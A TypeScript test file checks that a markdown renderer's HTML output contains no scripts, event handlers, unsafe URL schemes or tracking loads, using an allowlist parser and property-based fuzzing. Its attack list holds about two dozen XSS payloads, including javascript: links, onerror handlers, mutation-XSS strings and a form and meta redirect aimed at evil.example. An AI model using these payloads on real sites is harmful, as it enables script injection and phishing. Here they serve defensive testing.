import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { excerptOf, plainTextOf, renderMarkdown } from './markdown.ts';

const tags = new Set(
  'h2 h3 h4 h5 h6 p br hr blockquote pre code kbd ul ol li dl dt dd strong b em i del s sub sup mark small a img table thead tbody tr th td figure figcaption details summary'.split(
    ' ',
  ),
);
const attributes = new Set('href title rel src alt width height loading start align scope'.split(' '));

/** What of a page would run, load or send something: read as a browser's parser reads it. */
function dangersIn(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag: (name, attribs) => {
      if (!tags.has(name)) found.push(name);
      for (const [attribute, value] of Object.entries(attribs)) {
        if (!attributes.has(attribute)) found.push(`${name} ${attribute}`);
        const isAddress = attribute === 'href' || attribute === 'src';
        // Without a scheme it is a path of ours.
        const scheme = /^[\s\p{Cc}]*([a-z][a-z0-9+.\s\p{Cc}-]*):/iu.exec(value)?.[1]?.toLowerCase();
        const allowed = attribute === 'src' ? ['https'] : ['https', 'http', 'mailto', 'tel'];
        if (isAddress && (/^[\s\p{Cc}]*[/\\]{2}/u.test(value) || (scheme !== undefined && !allowed.includes(scheme))))
          found.push(`${attribute}=${value}`);
      }
    },
    oncomment: () => found.push('comment'),
    onprocessinginstruction: (name) => found.push(name),
  });
  parser.write(html);
  parser.end();
  return found;
}

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '![x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](http://tracker.example/p.png)',
  '![x](//tracker.example/p.png)',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=p></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<p style="position:fixed;inset:0">x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '```html\n</code></pre><script>alert(1)</script>\n```',
  '[x]("onmouseover="alert(1)")',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
];

test('no hostile text comes out as anything that runs, loads or sends', () => {
  for (const attack of attacks) assert.deepEqual(dangersIn(renderMarkdown(attack)), [], attack);
  fc.assert(
    fc.property(fc.array(fc.oneof(fc.constantFrom(...attacks), fc.string())), (parts) => {
      assert.deepEqual(dangersIn(renderMarkdown(parts.join(' '))), []);
      assert.deepEqual(dangersIn(renderMarkdown(parts.join('\n\n'))), []);
    }),
    { numRuns: 300 },
  );
});

test('what authors write looks as they mean it', () => {
  const html = renderMarkdown(
    '# Returns\n\nWithin **30 days**, see [the form](https://a.example/x).\n\n1. Pack\n2. Send',
  );
  assert.equal(
    html,
    '<h2>Returns</h2>\n<p>Within <strong>30 days</strong>, see <a href="https://a.example/x" rel="noopener nofollow">the form</a>.</p>\n<ol>\n<li>Pack</li>\n<li>Send</li>\n</ol>\n',
  );
  assert.match(renderMarkdown('|a|b|\n|-|-|\n|1|2|'), /<table>.*<td>1<\/td>/s);
  assert.match(
    renderMarkdown('![Box](https://a.example/box.png)'),
    /<img src="https:\/\/a.example\/box.png" alt="Box" loading="lazy" \/>/,
  );
});

test('the words of a text are searched without its marks', () => {
  const text =
    '# 退货\n\n**30 天**内 [申请](https://a.example)。\n\n- 一 &amp; 二\n- 三\n\n|A|B|\n|-|-|\n|1|2|\n\n> 注意\n\n<b>粗</b>';
  assert.equal(plainTextOf(text), '退货\n\n30 天内 申请。\n\n一 & 二\n三\n\nA B\n1 2\n\n注意\n\n粗');
  assert.equal(excerptOf('one two  three', 9), 'one two…');
});
